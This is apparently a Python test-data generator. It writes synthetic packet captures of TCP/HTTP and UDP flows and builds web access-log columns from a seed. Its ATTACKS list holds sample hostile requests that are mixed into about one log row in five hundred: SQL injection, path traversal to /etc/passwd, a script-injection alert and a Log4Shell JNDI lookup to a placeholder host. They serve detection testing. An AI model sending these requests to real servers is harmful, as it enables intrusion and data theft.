"""Generated captures and access-log events: the same for everybody, from nothing but a seed."""

from __future__ import annotations

import random
import struct
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

START = 1_764_000_000
ETHERNET = bytes(12) + b"\x08\x00"
PATHS = ("/", "/index.html", "/news/{}.html", "/api/list?page={}", "/upload/{}.jpg", "/search?q=word{}")
AGENTS = ("Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0)", "curl/8.9")
ATTACKS = (
    "/index.php?id=1'+union+select+1,2,3--",
    "/cgi-bin/../../../../etc/passwd",
    "/?x=%3Cscript%3Ealert(1)%3C/script%3E",
    "/${jndi:ldap://203.0.113.9/a}",
)


def write_capture(path: Path, flows: int, seed: int = 7) -> int:
    """A capture of TCP connections with an HTTP exchange each and UDP pairs, interleaved; packets written."""
    chance = random.Random(seed)
    packets = []
    for number in range(flows):
        client = struct.pack(">I", 0x0B000000 + number)
        server = struct.pack(">I", 0x0A000000 + number % 100)
        port = 1024 + number % 60000
        at = chance.random() * 600
        make = _connection if number % 4 else _datagrams
        packets += [(at + 0.01 * step, frame) for step, frame in enumerate(make(client, server, port, number))]
    packets.sort(key=lambda packet: packet[0])
    with path.open("wb") as file:
        file.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1))
        for at, frame in packets:
            micro = int(at * 1_000_000)
            head = struct.pack("<IIII", START + micro // 1_000_000, micro % 1_000_000, len(frame), len(frame))
            file.write(head + frame)
    return len(packets)


def _connection(client: bytes, server: bytes, port: int, number: int) -> list[bytes]:
    ask = f"GET /news/{number}.html HTTP/1.1\r\nHost: www.x.lab\r\nUser-Agent: {AGENTS[number % 3]}\r\n\r\n".encode()
    answer = b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 12000\r\n\r\n"
    there, back = (client, server, port, 80), (server, client, 80, port)
    frames = [_tcp(*there, 2, 99, b""), _tcp(*back, 18, 499, b""), _tcp(*there, 16, 100, b"")]
    frames += [_tcp(*there, 24, 100, ask), _tcp(*back, 24, 500, answer + bytes(1300))]
    for part in range(8):
        frames += [_tcp(*back, 16, 1900 + 1400 * part, bytes(1400)), _tcp(*there, 16, 100 + len(ask), b"")]
    return [*frames, _tcp(*there, 17, 100 + len(ask), b""), _tcp(*back, 17, 13100, b"")]


def _datagrams(client: bytes, server: bytes, port: int, number: int) -> list[bytes]:
    del number
    there = struct.pack(">HHHH", port, 123, 56, 0) + bytes(48)
    back = struct.pack(">HHHH", 123, port, 56, 0) + bytes(48)
    return [_ip(client, server, 17, there), _ip(server, client, 17, back)]


def _tcp(source: bytes, target: bytes, a: int, b: int, flags: int, sequence: int, payload: bytes) -> bytes:
    return _ip(source, target, 6, struct.pack(">HHIIBBHHH", a, b, sequence, 0, 0x50, flags, 1000, 0, 0) + payload)


def _ip(source: bytes, target: bytes, protocol: int, payload: bytes) -> bytes:
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), 7, 0, 64, protocol, 0)
    return ETHERNET + head + source + target + payload


def web_columns(rows: int, seed: int = 7, span: timedelta = timedelta(hours=12)) -> dict[str, list[Any]]:
    """Columns of `log.web`: ordinary requests, one in five hundred an attack."""
    chance = random.Random(seed)
    start = datetime(2026, 11, 23, tzinfo=UTC)
    targets = [
        chance.choice(ATTACKS) if chance.random() < 0.002 else chance.choice(PATHS).format(chance.randrange(5000))
        for _ in range(rows)
    ]
    return {
        "@timestamp": [start + span * (row / rows) for row in range(rows)],
        "event.kind": ["event"] * rows,
        "source.ip": [f"198.51.{chance.randrange(64)}.{chance.randrange(250)}" for _ in range(rows)],
        "http.request.method": ["GET" if chance.random() < 0.9 else "POST" for _ in range(rows)],
        "url.original": targets,
        "url.path": [target.partition("?")[0] for target in targets],
        "url.query": [target.partition("?")[2] or None for target in targets],
        "url.domain": [f"www.s{chance.randrange(100)}.lab" for _ in range(rows)],
        "http.response.status_code": [404 if chance.random() < 0.05 else 200 for _ in range(rows)],
        "http.response.body.bytes": [chance.randrange(90000) for _ in range(rows)],
        "user_agent.original": [chance.choice(AGENTS) for _ in range(rows)],
    }
